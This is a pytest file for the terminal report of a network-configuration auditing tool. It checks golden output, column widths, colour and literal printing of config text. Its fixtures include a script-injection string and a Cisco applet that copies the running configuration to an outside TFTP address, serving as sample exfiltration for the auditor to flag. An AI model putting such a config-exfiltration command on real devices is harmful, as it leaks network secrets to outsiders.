"""The terminal report: golden text at 80 columns, literal config text, colour only on request."""

from __future__ import annotations

from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from untapped.model.core import Diagnostic, LineCounts
from untapped.model.results import AuditResult, Channel, DeviceSummary, Finding
from untapped.report import terminal

GOLDEN = Path(__file__).resolve().parent / "golden"


def test_small_audit_at_80_columns_matches_golden(small: AuditResult, update_golden: bool) -> None:
    text = terminal.render(small, width=80, color=False)
    path = GOLDEN / "small_80.txt"
    if update_golden:
        path.write_text(text, encoding="utf-8")
    assert path.exists(), f"{path} missing: run pytest --update-golden and review it"
    assert text == path.read_text(encoding="utf-8"), (
        f"terminal output differs from {path} (review, then --update-golden)"
    )


def test_fits_80_columns_and_has_every_section(small: AuditResult) -> None:
    text = terminal.render(small, width=80)
    assert "\x1b[" not in text
    for line in text.splitlines():
        assert len(line) <= 80, line
    for needle in (
        "Owner networks       10.0.0.0/8 (from the policy)",
        "Channels by trust",
        "Findings by severity critical 1",
        "Parse coverage",
        "Waived findings (1):",
        "nightly backup applet, reviewed in change",
        "Diagnostics: unrecognized 1",
        "Files not parsed (1)",
        "Mgmt-intf",  # the vrf column appears when a channel has a VRF
    ):
        assert needle in text, needle


def test_narrow_terminal_still_renders(small: AuditResult) -> None:
    text = terminal.render(small, width=50)
    assert max(len(line) for line in text.splitlines()) <= 50
    assert "TAP-003" in text


def _result_with(text: str) -> AuditResult:
    dev = DeviceSummary(text, f"{text}.cfg", "cisco_ios", LineCounts(3, 2, 1, 0))
    ch = Channel(0, text, dev.file, 2, "syslog", text, vrf=text, trust="external")
    f = Finding("EXF-008", "high", "exfiltration", text, dev.file, 2, "t", f"to {text}", 0)
    w = Finding("EXF-009", "high", "exfiltration", text, dev.file, 3, "t", text, None, True, text)
    return AuditResult(
        text,
        [dev],
        [ch],
        [f],
        [Diagnostic(dev.file, 1, "unrecognized", text)],
        policy_file=text,
        owner_networks=[text],
        waived=[w],
    )


def test_config_text_is_never_interpreted_as_markup() -> None:
    for evil in ("[bold]x[/]", "<script>alert(1)</script>", "[red]r1[/red]", ":smile:", "[/]"):
        out = terminal.render(_result_with(evil), width=200, color=True)
        plain = terminal.render(_result_with(evil), width=200, color=False)
        assert evil in plain, (evil, plain)
        # with colour on, the text still appears literally (styles are ANSI codes around it)
        assert evil in out, (evil, out)
        assert "😄" not in out


def test_markup_in_a_parsed_config_prints_literally(tmp_path: Path) -> None:
    from untapped.pipeline import audit

    (tmp_path / "r1.cfg").write_text(
        "hostname r[bold]1[/]\n"
        "event manager applet <script>[red]X[/red]\n"
        " event none\n"
        ' action 1.0 cli command "copy run tftp://203.0.113.9/x"\n'
        "end\n"
    )
    text = terminal.render(audit(tmp_path, dialect="cisco_ios", jobs=1), width=120)
    assert "r[bold]1[/]" in text
    assert "<script>[red]X[/red]" in text


def test_color_only_when_asked(small: AuditResult) -> None:
    assert "\x1b[" in terminal.render(small, width=80, color=True)
    assert "\x1b[" not in terminal.render(small, width=80, color=False)


def test_width_from_columns(small: AuditResult, monkeypatch: object) -> None:
    import pytest

    mp = pytest.MonkeyPatch()
    try:
        mp.setenv("COLUMNS", "100")
        text = terminal.render(small)
        assert max(len(line) for line in text.splitlines()) > 80
        mp.setenv("COLUMNS", "junk")
        text = terminal.render(small)
        assert max(len(line) for line in text.splitlines()) <= 80
    finally:
        mp.undo()


_PRINTABLE = "".join(chr(c) for c in range(33, 127))


@settings(max_examples=40, deadline=None)
@given(text=st.text(alphabet=_PRINTABLE, min_size=1, max_size=30))
def test_property_any_config_text_prints_literally(text: str) -> None:
    out = terminal.render(_result_with(text), width=400, color=False)
    assert text in out


def test_expired_waiver_shows_in_a_policy_section(tmp_path: Path) -> None:
    from untapped.pipeline import audit

    (tmp_path / "r1.cfg").write_text("hostname r1\nlogging host 10.1.1.1\nend\n")
    (tmp_path / "untapped.toml").write_text(
        '[[waiver]]\nrule = "EXF-008"\ndevice = "x"\nreason = "lab relay"\nexpires = 2020-01-01\n'
    )
    text = terminal.render(audit(tmp_path, dialect="cisco_ios", jobs=1), width=80)
    assert "Policy  untapped.toml" in text
    assert "POL-001" in text and "lab" in text
    assert f"Policy               {tmp_path}" in terminal.render(
        audit(tmp_path, dialect="cisco_ios", jobs=1), width=400
    )
